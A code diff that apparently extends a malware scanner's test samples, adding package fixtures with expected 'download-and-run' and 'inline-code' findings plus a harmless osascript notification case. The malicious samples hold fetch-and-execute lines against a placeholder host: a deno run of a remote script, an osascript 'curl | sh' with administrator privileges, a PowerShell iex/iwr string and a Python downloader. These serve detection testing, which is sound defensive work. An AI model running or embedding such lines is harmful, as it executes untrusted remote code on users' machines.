@@ -18,6 +18,22 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a function that has a runtime run an address',
+      files: {
+        'package.json': manifest({ main: 'index.js' }),
+        'index.js':
+          "const { spawn } = require('child_process');\nexports.lint = (folder) => spawn('deno', ['run', '-A', 'https://a.weir.test/main.ts', folder]);\n",
+      },
+      expected: [at('download-and-run', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a script of the Mac that has a shell run a download',
+      files: hooked(
+        `osascript -e 'do shell script "curl -s https://a.weir.test/x | sh" with administrator privileges'`,
+      ),
+      expected: [at('inline-code', 'medium'), at('download-and-run', 'critical')],
+    },
+    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -141,6 +157,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet('a script of the Mac that tells something', {
+      'package.json': manifest({ main: 'index.js' }),
+      'index.js': `require('child_process').execFile('osascript', ['-e', 'display notification "Done"']);\n`,
+    }),
     quiet(
       'Python: a command that only shows',
       wheel('import subprocess\ndef show():\n    return subprocess.check_output(["git", "status"])\n'),
